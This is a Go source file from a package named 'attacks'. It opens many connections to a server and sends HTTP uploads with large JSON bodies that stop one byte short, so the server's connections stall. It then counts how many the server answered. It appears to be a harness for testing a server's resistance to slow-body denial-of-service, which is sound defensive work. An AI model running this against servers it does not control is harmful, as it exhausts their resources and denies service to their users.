package attacks

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// Uploads are requests without the last byte of their bodies. Each has its own connection.
type Uploads struct {
	conns    []net.Conn
	answered atomic.Int32
	reads    sync.WaitGroup
}

// Stall sends HTTP/1.1 uploads of size bytes to a path, 16 at a time, all without their last byte.
// Every other upload is chunked. Stall returns once each upload has stalled or was ended by the
// server. The caller calls Close.
func Stall(ctx context.Context, address, path string, uploads, size int) (*Uploads, error) {
	u := &Uploads{}
	places := make(chan struct{}, 16)
	var sent sync.WaitGroup
	for i := range uploads {
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
		if err != nil {
			sent.Wait()
			u.Close()
			return nil, err
		}
		u.conns = append(u.conns, conn)
		u.reads.Go(func() {
			if n, _ := conn.Read(make([]byte, 1<<10)); n > 0 { // ends with an answer, the connection's end, or Close
				u.answered.Add(1)
			}
		})
		sent.Go(func() {
			places <- struct{}{}
			defer func() { <-places }()
			_ = conn.SetWriteDeadline(time.Now().Add(time.Minute))
			send(conn, path, size, i%2 == 1)
		})
	}
	sent.Wait()
	return u, ctx.Err()
}

func send(conn net.Conn, path string, size int, chunked bool) {
	const begin = `{"prompt":"`
	length, frame, end := fmt.Sprintf("Content-Length: %d", size), "", ""
	chunk := bytes.Repeat([]byte("a"), 256<<10)
	if chunked {
		length, frame, end = "Transfer-Encoding: chunked", "%x\r\n", "\r\n"
	}
	write := func(data []byte) bool {
		text := data
		if chunked {
			text = fmt.Appendf(nil, frame+"%s"+end, len(data), data)
		}
		_, err := conn.Write(text)
		return err == nil
	}
	if _, err := fmt.Fprintf(conn,
		"POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n%s\r\n\r\n", path,
		length); err != nil {
		return
	}
	if !write([]byte(begin)) {
		return
	}
	for left := size - len(begin) - 1; left > 0; left -= len(chunk) {
		if !write(chunk[:min(left, len(chunk))]) {
			return
		}
	}
}

// Answered counts the uploads that the server has answered.
func (u *Uploads) Answered() int { return int(u.answered.Load()) }

// Close ends all uploads.
func (u *Uploads) Close() {
	for _, c := range u.conns {
		_ = c.Close()
	}
	u.reads.Wait()
}
